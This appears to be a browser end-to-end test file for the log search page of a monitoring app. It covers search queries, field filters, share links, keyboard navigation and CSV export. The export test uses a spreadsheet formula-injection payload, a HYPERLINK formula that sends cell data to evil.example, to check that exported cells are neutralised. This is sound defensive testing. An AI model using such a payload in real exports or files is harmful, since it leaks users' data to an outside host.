import { launchChromium, visit, type Browser, type Visitor } from '@vigilops/testkit/browser';
import { openHouse, until, type House } from '@vigilops/testkit/house';
import { appendFileSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { hasChromium, orSkipped } from './furnished.ts';

const LOGS = '/a/vigilops-app/logs';
const SHOWN_MS = 60_000;
/** What a spreadsheet would run. */
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1) order 999 refused`;

/** All lines of these stories are drawn at once. */
const TALL = { width: 1280, height: 1600 };

/** What of a page's world is used below, in functions that run there. */
declare const navigator: { clipboard: { readText(): Promise<string> } };

describe.skipIf(!hasChromium)(`the log centre with a real agent${orSkipped}`, () => {
  let house: House;
  let browser: Browser;
  let visitor: Visitor;
  beforeAll(async () => {
    [house, browser] = await Promise.all([
      openHouse({ env: { VIGILOPS_SELF_INTERVAL: 'off' } }),
      launchChromium(),
    ]);
    writeFileSync(join(house.folder, 'shop.log'), '');
    writeFileSync(join(house.folder, 'bank.log'), '');
    house.startAgent({
      yaml: [
        'host:\n  name: real-host\nmetrics:\n  interval: 5s\nlogs:',
        ...['shop', 'bank'].map(
          (name) => `  - path: ${join(house.folder, `${name}.log`)}\n    service: ${name}`,
        ),
        '',
      ].join('\n'),
    });
    visitor = await visit(browser, { url: house.url, token: house.adminToken, size: TALL });
    await visitor.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: house.url });
  });
  afterEach(() => {
    expect(visitor.troubles.take()).toEqual([]);
  });
  afterAll(async () => {
    await browser.close();
    await house.close();
  });

  const write = (name: string, lines: readonly string[]) => {
    appendFileSync(join(house.folder, `${name}.log`), lines.map((line) => `${line}\n`).join(''));
  };
  const bar = ({ page }: Visitor) => page.getByLabel('Search in log lines');
  const rows = ({ page }: Visitor) => page.locator('[role=option][data-index]');
  /** The texts of all lines, newest first. */
  const textsOf = async (who: Visitor): Promise<readonly string[]> => {
    await who.settled();
    return (await rows(who).locator('> div > span:last-child').allTextContents()).map((text) => text.trim());
  };
  const search = async (query: string) => {
    await bar(visitor).fill(query);
    await bar(visitor).press('Enter');
  };
  const shows = (who: Visitor, count: number) =>
    until(`${String(count)} lines are shown`, SHOWN_MS, async () =>
      (await textsOf(who)).length === count ? true : undefined,
    );
  const neighbours = () =>
    visitor.page.getByRole('region', { name: 'Lines around it' }).locator('li').allTextContents();

  it('shows what the agent reads, is searched in its language, and refined by a press on a field', async () => {
    await visitor.open(LOGS);
    write(
      'shop',
      Array.from({ length: 30 }, (_, i) =>
        i % 3 === 0
          ? `level=error msg="order ${String(i)} refused" status=502 region=north`
          : `level=info msg="order ${String(i)} accepted" status=200 region=${i % 2 === 0 ? 'north' : 'south'}`,
      ),
    );
    write('shop', [FORMULA]);
    write('bank', ['level=error msg="card refused" status=500', 'level=info msg="card taken" status=200']);
    await until('all lines are there', SHOWN_MS, async () => {
      const { total } = await house.ask<{ total: number }>('/api/v1/logs/volume', {});
      return total === 33 ? true : undefined;
    });
    await visitor.page.getByRole('button', { name: 'Ask again' }).click();
    await shows(visitor, 33);

    await search('refused -status:500 OR "card taken"');
    await shows(visitor, 12);
    await visitor.page
      .getByRole('region', { name: 'Service' })
      .getByRole('checkbox', { name: 'shop' })
      .click();
    await shows(visitor, 11);
    expect(await bar(visitor).inputValue()).toContain('service:shop');
    const texts = await textsOf(visitor);
    expect(texts[0]).toBe(FORMULA);
    expect(texts.slice(1).every((text) => /order \d+ refused/.test(text))).toBe(true);
  });

  it('shows the lines around one, also those that the search leaves out', async () => {
    await rows(visitor).filter({ hasText: 'order 15 refused' }).click();
    await visitor.page.getByRole('button', { name: 'Lines around it' }).click();
    await visitor.page.getByRole('region', { name: 'Lines around it' }).locator('li').first().waitFor();
    const around = await neighbours();
    expect(around).toHaveLength(31);
    for (const [row, i] of [14, 15, 16].entries()) {
      expect(around[14 + row]).toContain(`order ${String(i)} `);
    }
    expect(around.join('\n')).not.toContain('card');
    await visitor.page.getByRole('button', { name: 'Back to the list' }).click();
    await visitor.page.getByRole('button', { name: 'Close' }).click();
    await shows(visitor, 11);
  });

  it('shares a link that shows the same lines in another browser, though more came since', async () => {
    const before = await textsOf(visitor);
    await visitor.page.getByRole('button', { name: 'Share' }).click();
    await visitor.page.getByText('Link copied').waitFor();
    const link = new URL(await visitor.page.evaluate(() => navigator.clipboard.readText()));
    write('shop', ['level=error msg="order 31 refused" status=502 region=north']);
    await until('the line is there', SHOWN_MS, async () => {
      const { items } = await house.ask<{ items: unknown[] }>('/api/v1/logs/query', { query: '"order 31"' });
      return items.length === 1 ? true : undefined;
    });

    const elsewhere = await launchChromium();
    try {
      const other = await visit(elsewhere, {
        url: house.url,
        token: house.adminToken,
        size: TALL,
        language: 'zh-Hans',
      });
      await other.open(`${link.pathname}${link.search}`);
      await shows(other, 11);
      expect(await textsOf(other)).toEqual(before);
      expect(other.troubles.take()).toEqual([]);
    } finally {
      await elsewhere.close();
    }
    await visitor.page.getByRole('button', { name: 'Ask again' }).click();
    await shows(visitor, 12);
  });

  it('points at the column of a search that cannot be read, and keeps what it had', async () => {
    await search('refused level:loud');
    const problem = visitor.page.getByRole('alert');
    await problem.waitFor();
    expect(await problem.textContent()).toContain('Column 15: Levels are trace, debug, info');
    expect(await problem.locator('mark').textContent()).toBe('loud');
    expect(await rows(visitor).count()).toBe(12);
  });

  it('exports a table whose cells no spreadsheet runs', async () => {
    await search('refused service:shop');
    await shows(visitor, 12);
    await visitor.page.getByRole('button', { name: 'Export' }).click();
    const [download] = await Promise.all([
      visitor.page.waitForEvent('download'),
      visitor.page.getByText('CSV', { exact: true }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^vigilops-logs-.*\.csv$/);
    const table = (await readFile(await download.path(), 'utf8')).trimEnd().split('\r\n');
    expect(table).toHaveLength(13);
    expect(table[0]).toBe('time,level,host,service,file,body,trace_id,span_id');
    const [formula, ...others] = table.slice(1).filter((line) => line.includes('HYPERLINK'));
    expect(others).toEqual([]);
    expect(formula).toContain(`,real-host,shop,`);
    expect(formula).toContain(`,"'${FORMULA.replaceAll('"', '""')}",`);
  });

  it('goes from a search to a line and to those around it by the keyboard alone', async () => {
    await visitor.open(LOGS);
    const { keyboard } = visitor.page;
    await keyboard.type('level:error "card refused"');
    await keyboard.press('Enter');
    await shows(visitor, 1);
    await keyboard.press('Escape');
    await keyboard.press('j');
    await keyboard.press('j');
    await keyboard.press('Enter');
    const details = visitor.page.getByRole('region', { name: 'Details of the line' });
    await details.waitFor();
    expect(await details.textContent()).toContain('card refused');
    await keyboard.press('c');
    const around = visitor.page.getByRole('region', { name: 'Lines around it' });
    await around.locator('li').nth(1).waitFor();
    expect((await neighbours()).map((text) => /card \w+/.exec(text)?.[0])).toEqual([
      'card refused',
      'card taken',
    ]);
    // And back, step by step, to another search.
    await keyboard.press('Escape');
    await around.waitFor({ state: 'detached' });
    await keyboard.press('Escape');
    await details.waitFor({ state: 'detached' });
    await keyboard.press('/');
    await keyboard.type('card taken');
    await keyboard.press('Enter');
    await until('the other line is shown', SHOWN_MS, async () =>
      (await textsOf(visitor)).join().includes('card taken') ? true : undefined,
    );
  });
});
